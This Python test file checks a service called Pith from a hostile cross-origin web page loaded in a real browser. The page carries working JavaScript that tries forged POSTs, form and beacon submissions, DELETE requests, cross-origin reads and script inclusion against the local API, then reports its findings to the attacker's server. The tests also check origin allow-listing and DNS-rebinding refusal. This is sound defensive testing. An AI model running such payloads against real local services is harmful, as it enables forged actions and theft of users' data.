"""A web site open in a real browser beside an open Pith on loopback: what its page can and can't do."""

from __future__ import annotations

from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from queue import Queue
from threading import Thread
from typing import TYPE_CHECKING, Any, ClassVar

import orjson
import pytest
import redis

from tests.browser import EVIL, PATIENCE, browsing, needs_chromium, shown
from tests.serving import PAGE, done, serving, work

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    import httpx

    from config.settings import Settings

pytestmark = needs_chromium

# Each try says what the page learnt. `pith` and `job` are written in before.
ATTACK = """<!doctype html><iframe name=hole></iframe><script>
const json = JSON.stringify({url: "https://example.com/evil"});
const said = async (answer) => answer.type === "opaque" ? "opaque" : answer.status + await answer.text();
const post = (more) => fetch(pith + "/v1/jobs", {method: "POST", body: json, ...more}).then(said);
const form = (enctype) => new Promise((went) => {
  const form = document.createElement("form");
  Object.assign(form, {action: pith + "/v1/jobs", method: "POST", enctype, target: "hole"});
  const field = document.createElement("input");
  [field.name, field.value] = [json.slice(0, -1) + ', "formats": ["', '"]}'];
  form.append(field);
  document.querySelector("iframe").onload = () => went("sent");
  document.body.append(form);
  form.submit();
});
const tries = {
  preflighted: () => post({headers: {"Content-Type": "application/json"}}),
  simple: () => post({mode: "no-cors", headers: {"Content-Type": "text/plain"}}),
  beacon: async () => String(navigator.sendBeacon(pith + "/v1/jobs", json)),
  form_text: () => form("text/plain"),
  form_plain: () => form("application/x-www-form-urlencoded"),
  remove: () => fetch(pith + "/v1/jobs/" + job, {method: "DELETE"}).then(said),
  read: () => fetch(pith + "/v1/jobs/" + job).then(said),
  read_blind: () => fetch(pith + "/v1/jobs/" + job + "/text", {mode: "no-cors"}).then(said),
  read_with_header: () => fetch(pith + "/v1/jobs/" + job, {headers: {Authorization: "Bearer x"}}).then(said),
  script: () => new Promise((went) => {
    const script = document.createElement("script");
    [script.onload, script.onerror] = [() => went("ran"), () => went("refused")];
    script.src = pith + "/v1/jobs/" + job + "/text";
    document.body.append(script);
  }),
};
(async () => {
  const learnt = {};
  for (const [name, go] of Object.entries(tries)) {
    learnt[name] = await go().catch((fault) => "refused: " + fault.message);
  }
  await fetch("/learnt", {method: "POST", body: JSON.stringify(learnt)});
})();
</script>"""


class Attacker(BaseHTTPRequestHandler):
    """Serves one page, and hears what it learnt."""

    page: ClassVar[str] = ""
    learnt: ClassVar[Queue[dict[str, str]]] = Queue()

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page.encode())

    def do_POST(self) -> None:
        self.learnt.put(orjson.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: Any) -> None:
        """Nothing: pytest's output is for pytest."""


def attack(api: httpx.Client, folder: Path, server: ThreadingHTTPServer, job: str) -> dict[str, str]:
    """What the page of another origin learnt of this Pith."""
    facts = {"pith": str(api.base_url).rstrip("/"), "job": job}
    Attacker.page = f"<script>const {{pith, job}} = {orjson.dumps(facts).decode()};</script>" + ATTACK
    with browsing(f"http://{EVIL}:{server.server_port}/", folder):
        learnt: dict[str, str] = Attacker.learnt.get(timeout=PATIENCE)
    return learnt


@pytest.fixture
def site() -> Iterator[ThreadingHTTPServer]:
    """The web site."""
    with ThreadingHTTPServer(("127.0.0.1", 0), Attacker) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


def finished_job(api: httpx.Client, settings: Settings) -> str:
    job: str = api.post("/v1/jobs", json={"url": "https://example.com/"}).json()["id"]
    work(settings, done)
    return job


def jobs(redis_url: str) -> int:
    with redis.Redis.from_url(redis_url) as client:
        return sum(1 for _ in client.scan_iter("pith:job:*"))


def test_a_page_of_another_origin_makes_nothing_and_reads_nothing(
    redis_url: str, settings: Settings, site: ThreadingHTTPServer, tmp_path: Path
) -> None:
    with serving(redis_url) as api:
        job = finished_job(api, settings)
        learnt = attack(api, tmp_path, site, job)
        assert jobs(redis_url) == 1
        assert api.get(f"/v1/jobs/{job}").json()["status"] == "done"
    refused = ("preflighted", "remove", "read", "read_blind", "read_with_header", "script")
    assert all(learnt[name].startswith("refused") for name in refused), learnt
    assert str(PAGE["text"]) not in str(learnt)


def test_the_same_page_can_once_the_operator_lists_its_origin(
    redis_url: str, settings: Settings, site: ThreadingHTTPServer, tmp_path: Path
) -> None:
    with serving(redis_url, allowed_origins=(f"http://{EVIL}:{site.server_port}",)) as api:
        learnt = attack(api, tmp_path, site, finished_job(api, settings))
    assert learnt["preflighted"].startswith("202")
    assert learnt["remove"].startswith("204")
    assert learnt["script"] == "refused"  # its text runs nowhere, whoever asks


def test_by_a_name_that_was_rebound_to_it_a_browser_gets_nothing(redis_url: str, tmp_path: Path) -> None:
    with serving(redis_url) as api:
        url = f"http://{EVIL}:{api.base_url.port}/"
        page = shown(url, tmp_path)
    assert "wrong_host" in page
    assert "<form" not in page
